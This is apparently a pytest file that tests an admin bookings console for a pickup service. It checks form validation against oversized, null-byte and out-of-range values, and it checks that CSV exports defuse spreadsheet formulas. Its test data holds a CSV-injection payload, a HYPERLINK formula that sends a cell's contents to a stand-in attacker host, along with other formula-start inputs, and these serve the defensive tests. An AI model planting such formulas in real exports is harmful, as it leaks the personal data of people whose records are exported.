"""Attacks on the console's booking pages (/admin/bookings) and the crews' CSV (issue 11: findings 5, 10 and 13):
out-of-range form values on SQLite and PostgreSQL, and formulas smuggled into the CSV. Real Flask app, real
databases. Sign-in guessing is the console's: tests/channel/test_console_auth.py."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest

from bot import cli
from bot.csvsafe import FORMULA_STARTS
from bot.store.migrate import upgrade
from services.booking.config import load_config
from services.booking.fees import load_table
from services.booking.models import PickupCapacity
from services.booking.service import BookingStore, Draft
from tests.support.area_support import add_areas
from tests.support.console_support import csrf_of, signed_in

NOW = datetime(2026, 11, 20, 10, 0, tzinfo=ZoneInfo("Asia/Tokyo"))
PAGES = "/admin/bookings/"
FORMULAS = ('=HYPERLINK("http://evil.example/?p="&F3,"詳細")', "-ROW()", "+1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1")


@pytest.fixture
def areas(bot_env):
    upgrade(bot_env.database_url)
    add_areas(bot_env.database_url, "泉野", "浅野")


@pytest.fixture
def staff(app, areas, bot_env):
    return signed_in(app, bot_env.database_url, "bookings")


# -- finding 13 and 10: the capacity form and the pages take known areas, bounded dates and capacities -----------
BAD_FORMS = [
    ({"area": "泉" * 101}, "その名前の地区はありません"),
    ({"area": "泉野\x00"}, "その名前の地区はありません"),
    ({"area": "存在しない地区"}, "その名前の地区はありません"),
    ({"area": ""}, "その名前の地区はありません"),
    ({"capacity": str(2**31)}, "0から1000までの整数"),
    ({"capacity": "1001"}, "0から1000までの整数"),
    ({"capacity": "-1"}, "0から1000までの整数"),
    ({"capacity": "abc"}, "0から1000までの整数"),
    ({"capacity": "１０"}, "0から1000までの整数"),
    ({"capacity": "1_0"}, "0から1000までの整数"),
    ({"capacity": "1e3"}, "0から1000までの整数"),
    ({"date": "0001-01-01"}, "1年前から2年先まで"),
    ({"date": "9999-12-31"}, "1年前から2年先まで"),
    ({"date": "2028-11-21"}, "1年前から2年先まで"),
    ({"date": "2026-13-01"}, "2026-11-25"),
    ({"date": "2026-11-25\x00"}, "2026-11-25"),
]


def attack_the_capacity_form(client) -> None:
    page = client.get(PAGES + "?date=2026-11-25").get_data(as_text=True)
    good = {"area": "泉野", "date": "2026-11-25", "capacity": "5", "csrf_token": csrf_of(page)}
    for change, message in BAD_FORMS:
        response = client.post(PAGES + "capacity", data={**good, **change})
        assert response.status_code == 400, change
        assert message in response.get_data(as_text=True), change
    for query in ("?area=" + "泉" * 101, "?area=%00", "?date=0001-01-01", "?date=2026-11-25&area=%E6%B3%89%00"):
        assert client.get(PAGES + query).status_code == 400, query
        assert client.get(PAGES + "export.csv" + query).status_code == 400, query
    mark = {"status": "collected", "csrf_token": good["csrf_token"], "area": "泉" * 101}
    assert client.post(PAGES + "SD-ABCD-EFGH/mark", data=mark).status_code == 400
    assert client.post(PAGES + "capacity", data=good).status_code == 302
    for places in (str(2**31), "1001", "-1"):  # `bot booking capacity` takes the same range
        argv = ["booking", "capacity", "--area", "泉野", "--date", "2026-11-25", "--set", places]
        assert cli.main(argv) == 2


def test_the_capacity_form_refuses_what_it_cannot_take_on_sqlite(staff, settings):
    attack_the_capacity_form(staff)
    assert BookingStore(settings.database_url, load_config(settings.data_dir)).day_capacity(date(2026, 11, 25)) == [
        ("泉野", 5, 0)
    ]


def test_the_capacity_form_refuses_what_it_cannot_take_on_postgresql(bot_env, pg_url, monkeypatch):
    from bot.engine import Engine
    from bot.store.db import session_factory
    from connectors import create_app

    monkeypatch.setenv("BOT_DATABASE_URL", pg_url)
    settings = bot_env.with_(database_url=pg_url)
    upgrade(pg_url)
    add_areas(pg_url, "泉野", "浅野")
    engine = Engine(settings)
    try:
        attack_the_capacity_form(signed_in(create_app(settings, engine=engine), pg_url, "bookings"))
    finally:
        engine.close()
    with session_factory(pg_url)() as s:
        assert [(r.area, r.capacity) for r in s.query(PickupCapacity)] == [("泉野", 5)]


# -- finding 5: formulas typed by citizens never run in the crews' spreadsheet ---------------------------------------
def test_the_crews_csv_neutralises_formulas_and_quotes_every_field(staff, settings, tmp_path):
    store = BookingStore(settings.database_url, load_config(settings.data_dir))
    fees = load_table(settings.data_dir, settings.database_url)
    for i, formula in enumerate(FORMULAS):
        draft = Draft(
            "泉野", formula, formula, "09012345678", date(2026, 11, 25), (("sofa", 1),), "sticker", "rest", f"s{i}"
        )
        store.reserve(draft, NOW, fees)
    web = staff.get(PAGES + "export.csv?date=2026-11-25").get_data(as_text=True).lstrip("\ufeff")
    assert cli.main(["booking", "export", "--date", "2026-11-25", "--out", str(tmp_path / "crews.csv")]) == 0
    for text in (web, (tmp_path / "crews.csv").read_bytes().decode("utf-8-sig")):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + len(FORMULAS)
        assert sorted((row[3], row[4]) for row in rows[1:]) == sorted(("'" + f, "'" + f) for f in FORMULAS)
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        quoted = io.StringIO()
        csv.writer(quoted, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
        assert text == quoted.getvalue()  # every field quoted
